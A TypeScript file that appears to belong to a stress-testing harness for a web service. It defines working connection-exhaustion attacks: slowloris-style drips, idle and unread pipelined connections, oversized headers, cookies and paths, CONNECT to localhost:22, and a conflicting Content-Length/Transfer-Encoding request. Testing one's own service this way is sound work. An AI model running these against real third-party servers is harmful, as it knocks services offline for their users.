import { once } from "node:events";
import type net from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { type Attack, attack } from "./attack";
import { crowd, until } from "./crowd";
import { newMember } from "./member";
import type { Target } from "./target";

const SLOW = 500;
const IDLE = 2000;
/**
 * How many connections are opened at a time: the attack does not target the machine's accept queue, or send bursts of
 * requests.
 */
const BATCH = { size: 50, pauseMs: 50 };

async function openMany(
  target: Target,
  count: number,
  signal: AbortSignal,
  { deaf = false, addresses = 4, say = "" }: { deaf?: boolean; addresses?: number; say?: string } = {},
): Promise<net.Socket[]> {
  const sockets: net.Socket[] = [];
  while (sockets.length < count && !signal.aborted) {
    for (let n = 0; n < BATCH.size; n += 1) {
      const socket = target.open({ from: sockets.length % addresses, deaf });
      if (say) socket.write(say);
      sockets.push(socket);
    }
    await sleep(BATCH.pauseMs);
  }
  return sockets;
}

/** Sends the beginning of a request on many connections, then continues slowly on each. */
function dripping(begin: (target: Target) => string, drop: string) {
  return async (target: Target, signal: AbortSignal): Promise<void> => {
    const sockets = await openMany(target, SLOW, signal);
    for (const socket of sockets) socket.write(begin(target));
    while (!signal.aborted) {
      for (const socket of sockets) if (socket.writable) socket.write(drop);
      await sleep(250);
    }
  };
}

/** Large responses, for clients that do not read them. */
const LONG = [
  "/docs/api",
  "/api/v1/openapi.json",
  "/sitemap.xml",
  "/llms.txt",
  "/sdk/pegboard.ts",
  "/sdk/pegboard.tgz",
  "/sdk/postman.json",
  "/",
  "/builds",
];

export const CONNECTIONS: Attack[] = [
  attack({
    name: "slow-headers",
    description: `${SLOW} connections that say their headers a byte at a time`,
    run: dripping((target) => target.head("GET /").slice(0, -2), "X"),
  }),
  attack({
    name: "slow-bodies",
    description: `${SLOW} connections that send their bodies a byte at a time`,
    run: dripping(
      (target) => target.head("POST /api/register", { "Content-Type": "application/json", "Content-Length": 100_000 }),
      " ",
    ),
  }),
  attack({
    name: "idle-connections",
    description: `${IDLE} connections, each kept open after one answer`,
    async run(target, signal) {
      await openMany(target, IDLE, signal, { say: target.head("GET /robots.txt") });
      await until(signal);
    },
  }),
  attack({
    name: "pipelined-unread",
    description: "a hundred requests sent ahead on each of 50 connections, whose senders read nothing",
    async run(target, signal) {
      await crowd(50, signal, async (client) => {
        const socket = target.open({ from: client, deaf: true });
        socket.write(LONG.flatMap((path) => Array.from({ length: 12 }, () => target.head(`GET ${path}`))).join(""));
        await sleep(3000);
        socket.destroy();
      });
    },
  }),
  ...[95, 1950].map((headers) =>
    attack({
      name: `pipelined-${headers}-headers`,
      description: `a page and 100 requests of ${headers} headers sent ahead on each of 256 connections, unread`,
      async run(target, signal) {
        const many = Object.fromEntries(Array.from({ length: headers }, (_, n) => [`a${n}`, ""]));
        const ahead = target.head("GET /docs/api") + target.head("GET /robots.txt", many).repeat(100);
        const sockets = await openMany(target, 256, signal, { deaf: true, say: ahead });
        await until(signal);
        for (const socket of sockets) socket.destroy();
      },
    }),
  ),
  attack({
    name: "long-unread",
    description: "the longest answers there are, compressed, for 200 readers who read nothing",
    async run(target, signal) {
      const sockets = await openMany(target, 200, signal, { deaf: true, addresses: 200 });
      sockets.forEach((socket, n) =>
        socket.write(target.head(`GET ${LONG[n % LONG.length]}`, { "Accept-Encoding": n % 2 ? "br" : "identity" })),
      );
      await until(signal);
    },
  }),
  attack({
    name: "odd-protocols",
    description: "upgrades, HTTP/1.0, CONNECT, expectations, absolute targets, headers as large as may be",
    prepare: newMember,
    run: (target, signal, { cookie }) =>
      crowd(20, signal, async (client, round) => {
        const socket = target.open({ from: client });
        socket.write(ODD[(client + round) % ODD.length]!(target, cookie));
        await Promise.race([once(socket, "data"), once(socket, "close"), sleep(2000)]).catch(() => undefined);
        socket.destroy();
      }),
  }),
];

const ODD: ((target: Target, cookie: string) => string)[] = [
  (target) =>
    target.head("GET /", {
      Connection: "Upgrade",
      Upgrade: "websocket",
      "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA==",
      "Sec-WebSocket-Version": 13,
    }),
  () => "GET / HTTP/1.0\r\n\r\n",
  (target) => target.head("CONNECT localhost:22"),
  (target) =>
    target.head("POST /api/register", {
      Expect: "100-continue",
      "Content-Type": "application/json",
      "Content-Length": 100,
    }),
  (target) => target.head("GET http://localhost/login"),
  (target) => target.head("GET /", Object.fromEntries(Array.from({ length: 900 }, (_, n) => [`X-${n}`, n]))),
  (target, cookie) =>
    target.head("GET /", { Cookie: `${Array.from({ length: 2000 }, (_, n) => `a${n}=`).join(";")};${cookie}` }),
  (target) => target.head(`GET /?${Array.from({ length: 3000 }, (_, n) => `a${n}`).join("&")}`),
  (target) => target.head(`GET /${"a/".repeat(7000)}`),
  (target) => target.head(`GET /${"%2f".repeat(4500)}`),
  (target) => target.head("OPTIONS *"),
  (target) => `${target.head("GET /", { "Content-Length": 5, "Transfer-Encoding": "chunked" })}0\r\n\r\n`,
];
